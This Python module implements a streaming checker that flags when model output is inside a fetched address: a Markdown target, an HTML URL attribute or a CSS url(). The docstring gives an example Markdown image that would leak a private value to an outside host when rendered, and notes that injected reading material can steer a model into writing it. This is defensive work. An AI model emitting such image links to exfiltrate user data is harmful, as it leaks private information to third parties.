"""Addresses in a text that are fetched or followed, and not read by a person: where a value must not be put.

A reply that says ``![](https://elsewhere/?q=[EMAIL-7f3a])`` would carry the value out by being shown, and a reply can
be steered by what the model was given to read.  Known are the targets of Markdown (CommonMark 0.31.2, 6.3 and 4.7),
the attributes of HTML that hold addresses, and the addresses of CSS.

Known misses: programs in a page that put an address together.
It must never keep more of the text than it takes to see a target that begins in one piece and goes on in the next.
"""

from __future__ import annotations

import re
from typing import Final

#: What may stand before an address: line ends of JSON in JSON are letters here.
_BETWEEN: Final = r"(?:[ \n/\\]|\\[nrt]){0,8}"
#: The beginning of an address on the web, also with characters written as references, which readers undo.
_WEB: Final = r"(?:https?:|//|[a-z:/]{0,7}&#?\w)"
#: Browsers leave white space out of an address, and take backslashes for slashes.
_GAP: Final = r"(?:[ \n]|\\{1,8}[nrt])?"
_IN_HTML: Final = rf"(?:{_GAP.join(('h', 't', 't', 'p', 's?', ':'))}|{_WEB}|\\[/\\]\w)"
#: Attributes with one address, and those with several, or with more than addresses.
_ONE: Final = r"src|href|srcset|imagesrcset|ping|action|formaction|poster|background|object\b[^>]{0,24}[ \n]data"
_SEVERAL: Final = "srcset|imagesrcset|ping|style"
_TARGET: Final = re.compile(
    rf"\b(?:{_SEVERAL})[ \n]?={_BETWEEN}(?P<several>[\"'])"
    rf"|(?:\b(?:{_ONE})|;[ \n]?url)[ \n]?={_BETWEEN}(?P<one>[\"']?){_BETWEEN}{_IN_HTML}"
    rf"|(?:(?<![\w.])(?<!new )url\({_BETWEEN}(?P<style>[\"']?)|@import{_BETWEEN}(?P<sheet>[\"'])){_BETWEEN}{_WEB}"
    rf"|\](?P<markdown>[(:]){_BETWEEN}(?P<angle><?){_BETWEEN}{_WEB}",
    re.IGNORECASE,
)
_QUOTED: Final = {quote: re.compile(quote) for quote in "\"'"}
_IN_ANGLES: Final = re.compile(r"[>\n]")
_TO_SPACE: Final = re.compile(r"\s")
_TO_TAG_END: Final = re.compile(r"[\s>]")
_TO_BRACKET: Final = re.compile(r"[\s)]")
#: What counts in a target of Markdown in brackets, which may hold brackets in pairs and others after a backslash.
_BRACKETS: Final = re.compile(r"\\+(?:[^\\]|\Z)|[\s()]")
#: White space is made single, a line end where there is one, so that no amount of it pushes a beginning out of sight.
_BLANKS: Final = re.compile(r"[^\S\n]+")
_LINE_ENDS: Final = re.compile(r" ?\n[ \n]*")
#: Characters kept of what came before.
_LOOK_BEHIND: Final = 128
_MARKS: Final = ("](", "]:", "=", "l(", "L(", "@i", "@I")


class HiddenTargets:
    """Feed text in order; ``hidden`` says whether what comes next stands in such an address.

    What opens a target in one format may stand in a target of another, so each way to end is followed by itself.
    """

    __slots__ = ("_behind", "_depth", "_escaped", "_open")

    def __init__(self) -> None:
        self._behind = ""
        self._open: set[re.Pattern[str]] = set()
        self._depth, self._escaped = 0, False

    @property
    def hidden(self) -> bool:
        """Whether the text so far ends inside a hidden target."""
        return bool(self._open)

    def feed(self, text: str) -> None:
        """The next piece of the text."""
        text = _LINE_ENDS.sub("\n", _BLANKS.sub(" ", text))
        if self._behind.endswith((" ", "\n")):
            text = text.removeprefix(" ")
        begun, window = len(self._behind), self._behind + text
        self._behind = window[-_LOOK_BEHIND:]
        starts: dict[re.Pattern[str], list[int]] = {ending: [] for ending in self._open}
        if any(mark in window for mark in _MARKS):
            for target in _TARGET.finditer(window):
                if target.end() > begun:  # the others were met before
                    starts.setdefault(_ending(target), []).append(target.end())
        for ending, begins in starts.items():
            self._follow(ending, window, begun, begins)

    def _follow(self, ending: re.Pattern[str], window: str, at: int, begins: list[int]) -> None:
        """The targets that end so, from ``at`` on; those that begin in another of them end with it."""
        if ending in self._open and (at := self._end(ending, window, at)) < 0:
            return
        for begin in begins:
            if begin < at:
                continue
            self._open.add(ending)
            self._depth, self._escaped = 0, False
            if (at := self._end(ending, window, begin)) < 0:
                return

    def _end(self, ending: re.Pattern[str], window: str, at: int) -> int:
        """Where the open target ends, and that it does; -1 where it goes on."""
        after = self._after_brackets(window, at) if ending is _BRACKETS else _after(ending, window, at)
        if after >= 0:
            self._open.discard(ending)
        return after

    def _after_brackets(self, window: str, at: int) -> int:
        if self._escaped and at < len(window) and window[at] != "\\":
            at, self._escaped = at + 1, False
        for found in _BRACKETS.finditer(window, at):
            if found[0][0] == "\\":
                self._escaped = found[0][-1] == "\\"
            elif found[0] == "(":
                self._depth += 1
            elif found[0] == ")" and self._depth:
                self._depth -= 1
            else:
                return found.end()
        return -1


def _after(ending: re.Pattern[str], window: str, at: int) -> int:
    found = ending.search(window, at)
    return found.end() if found else -1


def _ending(target: re.Match[str]) -> re.Pattern[str]:
    quote = target["several"] or target["one"] or target["style"] or target["sheet"]
    if quote:
        return _QUOTED[quote]
    if target["angle"]:
        return _IN_ANGLES
    if target["markdown"]:
        return _BRACKETS if target["markdown"] == "(" else _TO_SPACE
    return _TO_BRACKET if target["style"] is not None else _TO_TAG_END
